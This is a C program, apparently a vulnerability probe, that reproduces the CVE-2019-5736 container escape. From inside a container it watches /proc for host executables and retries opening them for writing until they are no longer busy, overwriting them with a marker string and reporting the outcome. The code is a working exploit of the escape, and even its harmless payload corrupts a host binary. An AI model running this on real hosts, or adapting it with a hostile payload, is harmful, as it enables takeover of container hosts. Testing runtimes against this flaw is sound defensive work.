/*
 * box_exe.c - lie in wait for a program of the host's, as CVE-2019-5736 does.
 *
 * Beside process 1 of a box, look at every other process that comes, and at
 * the file that it executes, /proc/PID/exe.  Where that can be opened, keep it
 * and try to open it for writing once it is not busy any more.  Prints what
 * happened to each file that is not this box's, by device: "refused",
 * "overwritten", or "sealed" when it opens and cannot be written.
 */

#define _GNU_SOURCE
#include <sys/stat.h>

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static dev_t ours;

static void
attack(const char *pid)
{
	char path[300];
	struct stat st;
	int fd, out = -1;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY);
	if (fd == -1 || fstat(fd, &st) == -1 || st.st_dev == ours) {
		if (fd != -1)
			close(fd);
		return;
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 2000; i++) {
		out = open(path, O_WRONLY);
		if (out != -1 || errno != ETXTBSY)
			break;
		usleep(500);
	}
	if (out == -1)
		puts("refused");
	else if (write(out, "overwritten", 11) == 11)
		puts("overwritten");
	else
		puts("sealed");
	fflush(stdout);
	close(out);
	close(fd);
}

int
main(void)
{
	const struct dirent *entry;
	struct stat st;
	DIR *d;

	if (stat("/proc/1/exe", &st) == -1)
		return 1;
	ours = st.st_dev;
	puts("up");
	fflush(stdout);
	for (;;) {
		d = opendir("/proc");
		while (d != NULL && (entry = readdir(d)) != NULL)
			if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
				attack(entry->d_name);
		if (d != NULL)
			closedir(d);
	}
}
